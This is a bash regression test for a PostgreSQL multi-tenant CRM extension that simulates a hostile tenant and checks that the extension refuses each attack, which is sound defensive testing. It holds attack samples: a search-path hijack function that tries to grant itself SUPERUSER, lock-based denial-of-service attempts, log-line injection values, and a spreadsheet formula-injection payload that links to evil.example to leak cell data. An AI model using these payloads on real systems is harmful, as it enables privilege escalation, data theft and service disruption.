#!/usr/bin/env bash
# A hostile tenant against the shared machinery (docs/security.md, "What
# one account cannot do to another").  Anna, a LOGIN manager of account 1
# (and her admin login), attacks account 2, whose manager boris works
# meanwhile: every statement of boris runs under statement_timeout = 2s,
# so a stall is an error here, not a slow test.  Each attack:
#   - a poisoned job (run_at -infinity; a merge cycle, refused to anna and
#     then planted by the owner): the runner fails it and runs boris's job;
#   - every advisory lock of the old schemes (account 2's upsert buckets,
#     the runner's job keys) held by anna: boris upserts and his job runs;
#     anna can take no lock the extension serialises account 2 with;
#   - bind_role/unbind_role of boris, of the shared roles: refused;
#   - operators, functions and domains planted in public, with public
#     before pg_catalog on the runner's path: none runs, anna gains nothing;
#   - bulk_run_batch(..., 0): refused, the job untouched;
#   - LOCK TABLE in any mode above ROW EXCLUSIVE on every table and view of
#     the schema, and through a view of her own: refused with customercard
#     in session_preload_libraries (the setting docs/security.md asks for),
#     while without it PostgreSQL lets a holder of DELETE lock the table;
#   - every other utility statement that would queue a lock on a relation
#     of the schema before PostgreSQL checks ownership (31 kinds): refused
#     at once, while the owner holds the targets; without the guard, a
#     CREATE RULE behind a reader stalls boris's reads.
#   - log_event details above customercard.log_event_max_bytes, a raised
#     limit, an actor with control characters: refused.
#   - the runner: a row lock anna holds in her account, her 300 jobs, her
#     jobs queued for 1900, her queue beyond bulk_max_queued_jobs.
#   - a forgotten person: no unmerge, no queued import brings her back;
#     a formula she writes reaches no export as one.
# HOSTILE_VERSION=0.1 runs it against an older install script.
# Prints TAP.  Needs PGHOST/PGPORT/PGUSER (a superuser) of a cluster with
# trust auth.
set -euo pipefail
DB=cc_hostile
ROLES="cc_ht_anna cc_ht_anna_admin cc_ht_boris"
cleanup() {
    psql -X -q -d postgres -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '$DB' AND pid <> pg_backend_pid()" >/dev/null 2>&1 || true
    psql -X -q -d postgres -c "DROP DATABASE IF EXISTS $DB" >/dev/null 2>&1 || true
    for r in $ROLES; do psql -X -q -d postgres -c "DROP ROLE IF EXISTS $r" >/dev/null 2>&1 || true; done
}
trap cleanup EXIT
cleanup
admin() { psql -X -q -At -v ON_ERROR_STOP=1 -d $DB "$@"; }
# as ROLE SQL...: one session of ROLE; prints the output and any error's SQLSTATE
as() { local who=$1; shift; PGOPTIONS="-c client_min_messages=warning" psql -X -q -At -U "$who" -d $DB -v ON_ERROR_STOP=1 -v VERBOSITY=sqlstate "$@" 2>&1 | sed -E 's/^(psql:[^ ]* )?ERROR: +//'; }
# boris SQL: boris's statement, stalled at most 2 s
boris() { as cc_ht_boris -c "SET statement_timeout = '2s'" -c "$1"; }
n=0
ok() { n=$((n + 1)); if [ "$1" = "$2" ]; then echo "ok $n - $3"; else echo "not ok $n - $3"; echo "#   got:  $1"; echo "#   want: $2"; fi; }
# hold ROLE NAME SQL: ROLE runs SQL in an open transaction in the
# background and keeps it (application_name NAME) until release NAME
hold() {
    local who=$1 name=$2 sql=$3
    PGAPPNAME=$name psql -X -q -At -U "$who" -d $DB -c "BEGIN; $sql; SELECT pg_sleep(60);" >/dev/null 2>&1 &
    for i in $(seq 1 600); do     # (up to 30 s: a held import of 3,000 upserts on a busy machine)
        [ "$(admin -c "SELECT count(*) FROM pg_stat_activity WHERE application_name = '$name' AND query LIKE '%pg_sleep(60)%' AND wait_event = 'PgSleep'")" = 1 ] && { echo held; return 0; }
        sleep 0.05
    done
    echo "not held"
}
release() { admin -c "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE application_name = '$1'" >/dev/null; }

psql -X -q -d postgres -c "CREATE DATABASE $DB" >/dev/null
if [ -n "${HOSTILE_VERSION:-}" ]; then
    admin -c "CREATE EXTENSION customercard VERSION '$HOSTILE_VERSION' CASCADE" >/dev/null 2>&1
else
    admin -c "CREATE EXTENSION customercard CASCADE" >/dev/null 2>&1
fi
# a database made before PostgreSQL 15: anyone may create in public
admin >/dev/null <<'SQL'
GRANT CREATE ON SCHEMA public TO PUBLIC;
CREATE ROLE cc_ht_anna LOGIN IN ROLE customercard_manager;
CREATE ROLE cc_ht_anna_admin LOGIN IN ROLE customercard_admin;
CREATE ROLE cc_ht_boris LOGIN IN ROLE customercard_manager;
SELECT customercard.create_account('Boris shop');
SELECT customercard.bind_role('cc_ht_anna', 1);
SELECT customercard.bind_role('cc_ht_anna_admin', 1);
SELECT customercard.bind_role('cc_ht_boris', 2);
INSERT INTO customercard.contacts (account_id, name) SELECT 1, 'Anna client ' || i FROM generate_series(1, 50) i;
INSERT INTO customercard.contacts (account_id, name) SELECT 2, 'Boris client ' || i FROM generate_series(1, 50) i;
SQL
echo "1..72"

# 1. a poisoned job
ok "$(as cc_ht_anna -c "SELECT customercard.bulk_enqueue('archive', filter => '{}', run_at => '-infinity')")" 22007 \
   "anna cannot queue a job before every other account's jobs (run_at -infinity: 22007)"
a1=$(admin -c "SELECT min(contact_id) FROM customercard.contacts WHERE account_id = 1")
a2=$(admin -c "SELECT min(contact_id) + 1 FROM customercard.contacts WHERE account_id = 1")
ok "$(as cc_ht_anna -c "UPDATE customercard.contacts SET merged_into = $a2 WHERE contact_id = $a1")" 42501 \
   "anna cannot point a contact's merged_into anywhere (a merge cycle: 42501)"
poison=$(as cc_ht_anna -c "SELECT customercard.bulk_enqueue('add_tag', '{\"tag\": \"x\"}', ARRAY[$a1, $a2])")
admin -c "UPDATE customercard.contacts SET merged_into = CASE contact_id WHEN $a1 THEN $a2 ELSE $a1 END WHERE contact_id IN ($a1, $a2)"
bjob=$(boris "SELECT customercard.bulk_enqueue('add_tag', '{\"tag\": \"vip\"}', filter => '{}')")
out=$(admin -c "CALL customercard.bulk_run('20 seconds')" 2>&1 || true)
ok "$out|$(admin -c "SELECT string_agg(account_id || ':' || status, ' ' ORDER BY account_id) FROM customercard.bulk_jobs WHERE job_id IN ($poison, $bjob)")" \
   "|1:failed 2:done" "a job that cannot run (a merge cycle planted by the owner) fails alone; the same CALL runs boris's job"
admin -c "UPDATE customercard.contacts SET merged_into = NULL WHERE contact_id IN ($a1, $a2)"

# 2. advisory locks: every key of the old schemes for account 2, held by anna
next=$(admin -c "SELECT last_value FROM customercard.bulk_jobs_job_id_seq")
h=$(hold cc_ht_anna adv "SELECT pg_advisory_lock(2, b) FROM generate_series(0, 1023) b;
    SELECT pg_advisory_lock(1668441195, j) FROM generate_series($next, $next + 20) j")
ok "$h $(boris "SELECT customercard.upsert_contact('{\"name\": \"New one\", \"emails\": [\"new@boris.example\"]}') > 0")" "held t" \
   "boris upserts a new contact while anna holds every advisory lock of account 2's upsert buckets"
ok "$(boris "SELECT customercard.upsert_contact('{\"emails\": [\"new@boris.example\"], \"note\": \"again\"}') = (SELECT contact_id FROM customercard.emails WHERE email = 'new@boris.example')")" t \
   "... and matches it again"
bjob=$(boris "SELECT customercard.bulk_enqueue('add_tag', '{\"tag\": \"spring\"}', filter => '{}')")
admin -c "SET statement_timeout = '10s'" -c "CALL customercard.bulk_run('5 seconds')" >/dev/null 2>&1 || true
ok "$(admin -c "SELECT status FROM customercard.bulk_jobs WHERE job_id = $bjob")" done \
   "boris's job runs while anna holds the runner's advisory keys of his job ids"
release adv

# 3. anna holds whatever she can of the upsert and runner machinery
ok "$(as cc_ht_anna -c "SELECT count(*) FROM (SELECT FROM customercard.upsert_locks FOR UPDATE) x")" 42501 \
   "anna cannot lock the rows upserts serialise on (no rights on customercard.upsert_locks)"
ok "$(as cc_ht_anna -c "SET customercard.account_id = 2" -c "SELECT count(*) FROM customercard.bulk_jobs" -c "SELECT count(*) FROM (SELECT FROM customercard.bulk_jobs WHERE account_id = 2 FOR UPDATE) x" | tr '\n' ' ')" "0 42501 " \
   "anna cannot see account 2's jobs, nor lock any job row"
h=$(hold cc_ht_anna mine "SELECT customercard.upsert_contact('{\"name\": \"Same\", \"emails\": [\"same@example.com\"], \"phones\": [\"+7 912 000-00-01\"]}');
    SELECT customercard.upsert_contact(jsonb_build_object('emails', jsonb_build_array('a' || i || '@example.com'))) FROM generate_series(1, 3000) i;
    SELECT customercard.bulk_enqueue('add_tag', '{\"tag\": \"held\"}', filter => '{}')")
ok "$h $(boris "SELECT customercard.upsert_contact('{\"name\": \"Same\", \"emails\": [\"same@example.com\"], \"phones\": [\"+7 912 000-00-01\"]}') > 0")" "held t" \
   "boris upserts the same identifiers anna's open import (3,000 upserts) holds in her account"
ok "$(boris "SELECT customercard.card_json(min(contact_id)) #>> '{contact,name}' FROM customercard.contacts")" "Boris client 1" \
   "... and reads his card"
bjob=$(boris "SELECT customercard.bulk_enqueue('add_tag', '{\"tag\": \"summer\"}', filter => '{}')")
admin -c "SET statement_timeout = '10s'" -c "CALL customercard.bulk_run('5 seconds')" >/dev/null 2>&1 || true
ok "$(admin -c "SELECT status FROM customercard.bulk_jobs WHERE job_id = $bjob")" done \
   "boris's job runs while anna's session is in the middle of her import"
release mine

# 4. role bindings
ok "$(as cc_ht_anna_admin -c "SELECT customercard.bind_role('cc_ht_boris', 1)")" 42501 \
   "anna's admin cannot bind boris's login to account 1"
ok "$(as cc_ht_anna_admin -c "SELECT customercard.bind_role('customercard_manager', 1)")" 42501 \
   "anna's admin cannot bind the shared customercard_manager role"
ok "$(as cc_ht_anna_admin -c "SELECT customercard.unbind_role('cc_ht_boris', 2)")" 42501 \
   "anna's admin cannot unbind boris from account 2"
ok "$(boris "SELECT customercard.require_account_id()")" 2 \
   "boris still acts in his account without setting it"

# 5. hostile objects on the runner's path
as cc_ht_anna >/dev/null <<'SQL'
CREATE TABLE public.caught (what text);
GRANT INSERT ON public.caught TO PUBLIC;
CREATE FUNCTION public.evil(anyelement) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
    INSERT INTO public.caught VALUES (current_user || ' ran ' || pg_typeof($1)::text);
    BEGIN EXECUTE 'ALTER ROLE cc_ht_anna SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
    RETURN true;
END $$;
CREATE FUNCTION public.evil_mul(integer, double precision) RETURNS double precision LANGUAGE sql AS 'SELECT public.evil($1)::int * $2';
CREATE OPERATOR public.* (LEFTARG = integer, RIGHTARG = double precision, FUNCTION = public.evil_mul);
CREATE FUNCTION public.evil_div(numeric, double precision) RETURNS double precision LANGUAGE sql AS 'SELECT public.evil($1)::int / $2';
CREATE OPERATOR public./ (LEFTARG = numeric, RIGHTARG = double precision, FUNCTION = public.evil_div);
CREATE FUNCTION public.clock_timestamp() RETURNS timestamptz LANGUAGE sql AS 'SELECT pg_catalog.now() WHERE public.evil(1)';
CREATE FUNCTION public.jsonb_build_object(text, integer) RETURNS jsonb LANGUAGE sql AS 'SELECT ''{}''::jsonb WHERE public.evil($2)';
CREATE DOMAIN public.text AS pg_catalog.text CHECK (public.evil(VALUE));
CREATE DOMAIN public.jsonb AS pg_catalog.jsonb CHECK (public.evil(VALUE));
CREATE DOMAIN public.float8 AS pg_catalog.float8 CHECK (public.evil(VALUE));
CREATE DOMAIN public.timestamptz AS pg_catalog.timestamptz CHECK (public.evil(VALUE));
SELECT customercard.bulk_enqueue('add_tag', '{"tag": "path"}', filter => '{}');
SQL
out=$(admin -c "SET search_path = public, pg_catalog" -c "CALL customercard.bulk_run('10 seconds')" 2>&1 || true)
ok "$out|$(admin -c "SELECT count(*) FROM public.caught")|$(admin -c "SELECT rolsuper FROM pg_roles WHERE rolname = 'cc_ht_anna'")" "|0|f" \
   "with public before pg_catalog on its path, bulk_run runs none of anna's operators, functions or domains; anna gains nothing"
ok "$(admin -c "SELECT status FROM customercard.bulk_jobs WHERE params ->> 'tag' = 'path'")" done \
   "... and does the job"

# 6. a batch of size 0
job=$(as cc_ht_anna -c "SELECT customercard.bulk_enqueue('archive', filter => '{}')")
ok "$(as cc_ht_anna -c "SELECT customercard.bulk_run_batch(1, $job, 0)")|$(admin -c "SELECT status || ' ' || done FROM customercard.bulk_jobs WHERE job_id = $job")" \
   "22023|queued 0" "bulk_run_batch(acct, job, 0) is refused (22023) and marks nothing done"

# 7. LOCK TABLE, with customercard in session_preload_libraries
admin -c "ALTER DATABASE $DB SET session_preload_libraries = 'customercard'"
locks=$(admin -c "SELECT string_agg(format('BEGIN; LOCK TABLE customercard.%I IN %s MODE NOWAIT; ROLLBACK;', c.relname, m), E'\n' ORDER BY c.relname, m)
                    FROM pg_class c, unnest(ARRAY['SHARE UPDATE EXCLUSIVE', 'SHARE', 'SHARE ROW EXCLUSIVE', 'EXCLUSIVE', 'ACCESS EXCLUSIVE']) m
                   WHERE c.relnamespace = 'customercard'::regnamespace AND c.relkind IN ('r', 'v')")
tries=$(echo "$locks" | grep -c LOCK)
got=$(echo "$locks" | PGOPTIONS="-c client_min_messages=warning" psql -X -q -At -U cc_ht_anna -d $DB -v VERBOSITY=sqlstate 2>&1 | grep -c '42501' || true)
ok "$got" "$tries" "anna can lock no table or view of the schema above ROW EXCLUSIVE (each of $tries tries: 42501)"
ok "$(as cc_ht_anna -c "CREATE VIEW public.my_tags AS SELECT * FROM customercard.contact_tags" \
                    -c "BEGIN" -c "LOCK TABLE public.my_tags IN ACCESS EXCLUSIVE MODE NOWAIT" | tail -1)" 42501 \
   "... nor through a view of her own over a table she may DELETE from"
ok "$(as cc_ht_anna -c "BEGIN" -c "LOCK TABLE customercard.contact_tags IN ROW EXCLUSIVE MODE" -c "SELECT 'held'" -c "ROLLBACK")" held \
   "the modes her own writes take stay hers (ROW EXCLUSIVE)"
h=$(hold cc_ht_anna rx "LOCK TABLE customercard.contact_tags, customercard.phones IN ROW EXCLUSIVE MODE")
ok "$h $(boris "SELECT customercard.upsert_contact('{\"name\": \"Under lock\", \"phones\": [\"+7 912 000-00-02\"], \"tags\": [\"t\"]}') > 0")" "held t" \
   "boris upserts while anna holds what she may"
release rx
ok "$(as cc_ht_anna -c "CREATE TABLE public.mine (a bigint REFERENCES customercard.accounts)")" 42501 \
   "nor by a foreign key of her own to a table of the schema (SHARE ROW EXCLUSIVE on it)"
# not vacuous: without the library loaded, PostgreSQL lets her
ok "$(PGOPTIONS="-c session_preload_libraries=" psql -X -q -At -d $DB -v ON_ERROR_STOP=1 \
        -c "SET ROLE cc_ht_anna" -c "BEGIN" -c "LOCK TABLE customercard.contact_tags IN ACCESS EXCLUSIVE MODE NOWAIT" -c "SELECT 'locked'" 2>&1)" locked \
   "without customercard in session_preload_libraries anna could lock contact_tags (she holds DELETE on it): the setting is what refuses it"

# 8. every other statement that would queue a strong lock on a relation of
# the schema before PostgreSQL checks ownership: refused before any lock is
# queued (the owner holds ACCESS EXCLUSIVE on the targets meanwhile, so a
# statement that queued its lock would end in 55P03, not in the guard's
# 42501)
admin >/dev/null <<'SQL'
CREATE FUNCTION public.noop() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END';
CREATE TABLE public.ddl_mine (a bigint);
CREATE TABLE public.ddl_parted (a bigint) PARTITION BY LIST (a);
ALTER TABLE public.ddl_mine OWNER TO cc_ht_anna;
ALTER TABLE public.ddl_parted OWNER TO cc_ht_anna;
GRANT CREATE ON DATABASE cc_hostile TO cc_ht_anna;
SQL
ddl=$(cat <<'SQL'
CREATE RULE r AS ON INSERT TO customercard.contacts DO INSTEAD NOTHING
CREATE TRIGGER t BEFORE INSERT ON customercard.contact_tags FOR EACH ROW EXECUTE FUNCTION public.noop()
CREATE CONSTRAINT TRIGGER t AFTER INSERT ON public.ddl_mine FROM customercard.contacts FOR EACH ROW EXECUTE FUNCTION public.noop()
CREATE POLICY p ON customercard.contacts USING (true)
ALTER POLICY p ON customercard.contacts USING (true)
DROP POLICY p ON customercard.contacts
CREATE INDEX ON customercard.contacts (name)
CREATE STATISTICS public.s ON account_id, name FROM customercard.contacts
ALTER TABLE customercard.contacts ADD COLUMN x integer
ALTER TABLE customercard.contacts RENAME COLUMN name TO n
ALTER TABLE customercard.contacts SET SCHEMA public
ALTER TRIGGER t ON customercard.contacts RENAME TO u
COMMENT ON TABLE customercard.contacts IS 'x'
COMMENT ON COLUMN customercard.contacts.name IS 'x'
COMMENT ON TRIGGER t ON customercard.contacts IS 'x'
SECURITY LABEL ON TABLE customercard.contacts IS 'x'
TRUNCATE customercard.contact_tags
VACUUM FULL customercard.contacts
ANALYZE customercard.contacts
CLUSTER customercard.contacts USING contacts_pkey
REINDEX TABLE customercard.contacts
REINDEX INDEX customercard.contacts_pkey
DROP TABLE customercard.contact_tags
DROP TRIGGER t ON customercard.contacts
DROP RULE r ON customercard.contacts
CREATE TABLE public.ddl_child () INHERITS (customercard.contacts)
CREATE TABLE public.ddl_part PARTITION OF customercard.contacts FOR VALUES IN (1)
ALTER TABLE public.ddl_mine ADD FOREIGN KEY (a) REFERENCES customercard.accounts
ALTER TABLE public.ddl_mine INHERIT customercard.contacts
ALTER TABLE public.ddl_parted ATTACH PARTITION customercard.contact_tags FOR VALUES IN (1)
CREATE PUBLICATION ddl_pub FOR TABLE customercard.contacts
SQL
)
h=$(hold "$PGUSER" owner_ae "LOCK TABLE customercard.contacts, customercard.contact_tags, customercard.accounts IN ACCESS EXCLUSIVE MODE")
while IFS= read -r stmt; do
    got=$(PGOPTIONS="-c client_min_messages=warning -c lock_timeout=1s" psql -X -q -At -U cc_ht_anna -d $DB -c "$stmt" 2>&1 | sed -E 's/^(psql:[^ ]* )?ERROR: +//' | head -1 || true)
    case "$got" in "only the owner of customercard."*) got=refused ;; esac
    ok "$h $got" "held refused" "the guard refuses $(echo "$stmt" | cut -c1-60)... at once, with its lock not queued"
done <<<"$ddl"
ok "$(PGOPTIONS="-c lock_timeout=1s" psql -X -q -At -U cc_ht_anna -d $DB -c "SET search_path = customercard, public" -c "COMMENT ON TABLE contacts IS 'x'" 2>&1 | sed -E 's/^(psql:[^ ]* )?ERROR: +//' | head -1 | cut -c1-43 || true)" \
   "only the owner of customercard.contacts may" "... and a relation named by the search path"
release owner_ae
ok "$(as cc_ht_anna -c "CREATE TRIGGER t AFTER INSERT ON public.ddl_mine FOR EACH ROW EXECUTE FUNCTION public.noop()" -c "COMMENT ON TABLE public.ddl_mine IS 'mine'" -c "SELECT obj_description('public.ddl_mine'::regclass)")" mine \
   "her own tables stay hers to change"
# the stall the guard prevents: behind one reader, a CREATE RULE bound to
# fail holds every other account's statement until it fails
h=$(hold "$PGUSER" reader "SELECT count(*) FROM customercard.contacts")
PGAPPNAME=ddl_wait PGOPTIONS="-c session_preload_libraries=" psql -X -q -At -d $DB -c "SET ROLE cc_ht_anna" \
    -c "CREATE RULE r AS ON INSERT TO customercard.contacts DO INSTEAD NOTHING" >/dev/null 2>&1 &
for i in $(seq 1 100); do
    [ "$(admin -c "SELECT count(*) FROM pg_stat_activity WHERE application_name = 'ddl_wait' AND wait_event_type = 'Lock'")" = 1 ] && break
    sleep 0.05
done
ok "$h $(boris "SELECT count(*) FROM customercard.card" | tail -1)" "held 57014" \
   "without customercard in session_preload_libraries, anna's CREATE RULE waiting behind a reader stalls boris's read of his cards (2 s)"
release ddl_wait
ok "$(as cc_ht_anna -c "CREATE RULE r AS ON INSERT TO customercard.contacts DO INSTEAD NOTHING")|$(boris "SELECT count(*) > 0 FROM customercard.card")" "42501|t" \
   "with it, her CREATE RULE is refused at once behind the same reader, and boris reads his cards"
release reader

# 9. what a tenant may write into shared space
c1=$(admin -c "SELECT min(contact_id) FROM customercard.contacts WHERE account_id = 1")
ok "$(as cc_ht_anna -c "SELECT customercard.log_event($c1, 'crm_exported', jsonb_build_object('blob', repeat('x', 9400000)))")|$(admin -c "SELECT count(*) FROM customercard.action_log WHERE event = 'crm_exported'")" \
   "54000|0" "a log_event of 9.4 MB details is refused (54000) and logs nothing"
ok "$(as cc_ht_anna -c "SELECT customercard.log_event($c1, 'crm_exported', jsonb_build_object('blob', repeat('x', 60000)))" -c "SELECT 'logged'" | tail -1)" logged \
   "... one of 60 kB is logged (customercard.log_event_max_bytes, 64 kB by default)"
ok "$(as cc_ht_anna -c "SET customercard.log_event_max_bytes = '100MB'")" 42501 \
   "anna cannot raise the limit"
ok "$(as cc_ht_anna -c "SET customercard.actor = E'manager 7\n2026-12-07 system contact_deleted'" | head -1)|$(as cc_ht_anna -c "SET customercard.actor = E'a\tb'")|$(as cc_ht_anna -c "SET customercard.actor = E'a\rb'")|$(as cc_ht_anna -c "SET customercard.actor = E'a\u2028b'")|$(as cc_ht_anna -c "SET customercard.actor = E'a\u0085b'")" \
   "22023|22023|22023|22023|22023" "an actor with a line break, tab, carriage return, line separator or C1 control is refused (22023)"
ok "$(as cc_ht_anna -c "SET customercard.actor = 'manager:Анна 7'" -c "SELECT customercard.current_actor()")" "manager:Анна 7" \
   "... a manager id of any script is taken"

# 10. the shared runner: a lock anna holds in her own account, her 300
# jobs, her jobs "due" since 1900, her queue's limit
admin -c "UPDATE customercard.bulk_jobs SET status = 'cancelled', finished_at = now() WHERE status IN ('queued', 'running')"
c1=$(admin -c "SELECT min(contact_id) FROM customercard.contacts WHERE account_id = 1")
h=$(hold cc_ht_anna rowlock "SELECT 1 FROM customercard.contacts WHERE contact_id = $c1 FOR UPDATE")
ajob=$(as cc_ht_anna -c "SELECT customercard.bulk_enqueue('add_tag', '{\"tag\": \"locked\"}', ARRAY[$c1])")
bjob=$(boris "SELECT customercard.bulk_enqueue('add_tag', '{\"tag\": \"unlocked\"}', filter => '{}')")
out=$(admin -c "SET statement_timeout = '7s'" -c "CALL customercard.bulk_run('3 seconds')" 2>&1 || true)
ok "$h $out|$(admin -c "SELECT string_agg(account_id || ':' || status || ':' || (attempts > 0 OR status = 'failed') || ':' || coalesce(left(error, 5), '-'), ' ' ORDER BY account_id) FROM customercard.bulk_jobs WHERE job_id IN ($ajob, $bjob)")" \
   "held |1:failed:true:55P03 2:done:false:-" \
   "a row anna holds in her own account stalls no runner: bulk_run('3 seconds') ends within 7 s, her job's batches fail on the lock (55P03, failed after 3), boris's job is done"
release rowlock
admin -c "UPDATE customercard.bulk_jobs SET status = 'cancelled', finished_at = now() WHERE status IN ('queued', 'running')"
mark=$(admin -c "SELECT max(job_id) FROM customercard.bulk_jobs")
as cc_ht_anna -c "SELECT count(customercard.bulk_enqueue('add_tag', jsonb_build_object('tag', 'many' || i), ARRAY[$c1])) FROM generate_series(1, 300) i" >/dev/null
bjob=$(boris "SELECT customercard.bulk_enqueue('add_tag', '{\"tag\": \"fair\"}', filter => '{}')")
admin -c "SET statement_timeout = '20s'" -c "CALL customercard.bulk_run('1 second')" >/dev/null 2>&1 || true
ok "$(admin -c "SELECT status || ' ' || ((SELECT count(*) FROM customercard.bulk_jobs a WHERE a.account_id = 1 AND a.job_id > $mark AND a.started_at < b.started_at) <= 1) FROM customercard.bulk_jobs b WHERE job_id = $bjob")" "done true" \
   "with 300 jobs of anna queued first, boris's job waits one batch of them (turns per account)"
admin -c "UPDATE customercard.bulk_jobs SET status = 'cancelled', finished_at = now() WHERE status IN ('queued', 'running')"
mark=$(admin -c "SELECT max(job_id) FROM customercard.bulk_jobs")
bjob=$(boris "SELECT customercard.bulk_enqueue('add_tag', '{\"tag\": \"early\"}', filter => '{}')")
as cc_ht_anna -c "SELECT count(customercard.bulk_enqueue('add_tag', jsonb_build_object('tag', 'past' || i), ARRAY[$c1], run_at => '1900-01-01')) FROM generate_series(1, 20) i" >/dev/null
admin -c "SET statement_timeout = '20s'" -c "CALL customercard.bulk_run('1 second')" >/dev/null 2>&1 || true
ok "$(admin -c "SELECT status || ' ' || ((SELECT count(*) FROM customercard.bulk_jobs a WHERE a.account_id = 1 AND a.job_id > $mark AND a.started_at < b.started_at) <= 1) FROM customercard.bulk_jobs b WHERE job_id = $bjob")" "done true" \
   "... and 20 jobs of hers with run_at 1900 jump ahead of his earlier one by one batch at most (a past run_at counts as now)"
admin -c "UPDATE customercard.bulk_jobs SET status = 'cancelled', finished_at = now() WHERE status IN ('queued', 'running')"
admin -c "ALTER ROLE cc_ht_anna SET customercard.bulk_max_queued_jobs = 5"
ok "$(as cc_ht_anna -c "SELECT count(customercard.bulk_enqueue('add_tag', jsonb_build_object('tag', 'cap' || i), ARRAY[$c1])) FROM generate_series(1, 5) i") $(as cc_ht_anna -c "SELECT customercard.bulk_enqueue('archive', filter => '{}')") $(as cc_ht_anna -c "SELECT customercard.import_enqueue(convert_to(E'name\\nX\\n', 'UTF8'), 'csv')")" "5 54000 54000" \
   "an account has at most customercard.bulk_max_queued_jobs queued jobs (54000 beyond, for any kind of job)"
ok "$(as cc_ht_anna -c "SET customercard.bulk_max_queued_jobs = 1000")|$(boris "SELECT customercard.bulk_enqueue('archive', filter => '{}') > 0")" "42501|t" \
   "... a limit she cannot raise; boris's queue is his own"
admin -c "ALTER ROLE cc_ht_anna RESET customercard.bulk_max_queued_jobs"
admin -c "UPDATE customercard.bulk_jobs SET status = 'cancelled', finished_at = now() WHERE status IN ('queued', 'running')"

# 11. a person erased on request stays erased; an export carries no formula
m1=$(as cc_ht_anna -c "SELECT customercard.upsert_contact('{\"name\": \"Yolanda Erasova\", \"emails\": [\"yolanda.erasova@example.com\"], \"phones\": [\"+7 912 777-66-55\"]}')")
m2=$(as cc_ht_anna -c "SELECT customercard.upsert_contact('{\"name\": \"Y. Erasova\", \"emails\": [\"y.erasova@example.com\"]}')")
merge=$(as cc_ht_anna_admin -c "SELECT customercard.merge($m1, $m2)")
imp=$(as cc_ht_anna -c "SELECT customercard.import_enqueue(convert_to(E'name,phone,email\r\nYolanda,8 912 777 66 55,YOLANDA.ERASOVA@example.com\r\n', 'UTF8'), 'csv')")
as cc_ht_anna_admin -c "SELECT customercard.forget_contact($m2)" >/dev/null
ok "$(as cc_ht_anna_admin -c "SELECT customercard.unmerge($merge)")" 55000 \
   "an unmerge after forget_contact is refused (55000): the absorbed contact is not brought back"
admin -c "SET statement_timeout = '20s'" -c "CALL customercard.bulk_run('5 seconds')" >/dev/null 2>&1 || true
ok "$(as cc_ht_anna -c "SELECT string_agg(status || ':' || coalesce(reason, ''), ',') FROM customercard.import_report($imp)")|$(admin -c "SELECT count(*) FROM customercard.emails WHERE lower(email) LIKE '%erasova%'")|$(admin -c "SELECT count(*) FROM customercard.bulk_job_rows WHERE data::text ILIKE '%erasova%' OR data::text LIKE '%777 66 55%'")" \
   "rejected:(erased on request)|0|0" \
   "a queued import naming the forgotten person is refused when run, without her values; she does not come back"
as cc_ht_anna -c "SELECT customercard.upsert_contact('{\"name\": \"=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A2,\\\"click\\\")\", \"emails\": [\"formula@example.com\"]}')" >/dev/null
ok "$(as cc_ht_anna -c "SELECT count(*) FROM regexp_split_to_table(customercard.export_csv('{}'), E'\r\n') l WHERE l LIKE '%,\"''=HYPERLINK(%'")|$(as cc_ht_anna -c "SELECT count(*) FROM regexp_split_to_table(customercard.export_csv('{}'), E'\r\n') l WHERE l LIKE '%,\"=HYPERLINK(%'")" \
   "1|0" "a name anna wrote as a formula reaches the exported CSV with a leading ' (no spreadsheet runs it)"
